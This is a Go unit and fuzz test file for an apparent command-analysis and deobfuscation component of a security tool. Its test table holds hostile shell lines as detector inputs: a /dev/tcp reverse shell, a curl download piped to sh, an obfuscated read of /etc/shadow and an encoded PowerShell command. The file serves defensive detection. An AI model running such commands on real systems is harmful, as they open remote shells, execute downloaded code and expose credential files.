package command

import (
	"errors"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/internal/command/rules"
	"github.com/vigilsec/vigil/internal/deobfuscate"
)

func newTestAnalyzer(tb testing.TB) *Analyzer {
	tb.Helper()
	eng, err := rules.Load(true)
	if err != nil {
		tb.Fatalf("load builtin rules: %v", err)
	}
	return NewAnalyzer(eng, deobfuscate.DefaultLimits())
}

func hasAction(an *Analysis, act rules.Action) bool {
	for _, h := range an.Rules {
		if h.Action == act {
			return true
		}
	}
	return false
}

func TestAnalyze(t *testing.T) {
	a := newTestAnalyzer(t)
	tests := []struct {
		name       string
		in         string
		wantAction rules.Action // "" means: no force_malicious/promote hit
		wantExe    string
		wantDeob   string // substring of the deobfuscated text
	}{
		{"reverse shell over /dev/tcp is forced malicious", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", rules.ForceMalicious, "bash", ""},
		{"encoded powershell is decoded before the rules see it", "powershell -enc dwBoAG8AYQBtAGkA", "", "whoami", "whoami"},
		{"download piped to a shell is forced malicious", "curl -fsSL http://203.0.113.5/x.sh | sh", rules.ForceMalicious, "curl", ""},
		{"caret-obfuscated shadow read is seen through", "c^a^t /etc/shadow", rules.ForceMalicious, "cat", "cat /etc/shadow"},
		{"a plain listing fires nothing strong", "ls -la /tmp", "", "ls", ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			an, err := a.Analyze(tc.in)
			if err != nil {
				t.Fatal(err)
			}
			if tc.wantAction != "" && !hasAction(an, tc.wantAction) {
				t.Errorf("no %s rule fired: %+v", tc.wantAction, an.Rules)
			}
			if tc.wantAction == "" && (hasAction(an, rules.ForceMalicious) || hasAction(an, rules.Promote)) {
				t.Errorf("unexpected strong rule: %+v", an.Rules)
			}
			if an.Parsed.Executable != tc.wantExe {
				t.Errorf("executable = %q, want %q", an.Parsed.Executable, tc.wantExe)
			}
			if !strings.Contains(an.Deobfuscation.Deobfuscated, tc.wantDeob) {
				t.Errorf("deobfuscated %q lacks %q", an.Deobfuscation.Deobfuscated, tc.wantDeob)
			}
		})
	}
}

func TestAnalyzeBadInput(t *testing.T) {
	a := newTestAnalyzer(t)
	if _, err := a.Analyze("  \n\t "); !errors.Is(err, ErrEmpty) {
		t.Errorf("blank: err = %v, want ErrEmpty", err)
	}
	if _, err := a.Analyze(strings.Repeat("a", 65<<10)); !errors.Is(err, ErrTooLarge) {
		t.Errorf("huge: err = %v, want ErrTooLarge", err)
	}
	an, err := a.Analyze("who\x00ami \xff\xfe")
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(an.Warnings, ",") != "nul_bytes,invalid_utf8" {
		t.Errorf("warnings = %v", an.Warnings)
	}
	if an.Parsed.Executable != "whoami" {
		t.Errorf("NUL not removed before parsing: executable %q", an.Parsed.Executable)
	}
}

func FuzzAnalyze(f *testing.F) {
	a := newTestAnalyzer(f)
	for _, s := range typicalCommands {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		an, err := a.Analyze(in)
		if err != nil {
			if !errors.Is(err, ErrEmpty) && !errors.Is(err, ErrTooLarge) {
				t.Fatalf("unexpected error %v", err)
			}
			return
		}
		if an.Parsed == nil {
			t.Fatal("nil parse")
		}
	})
}
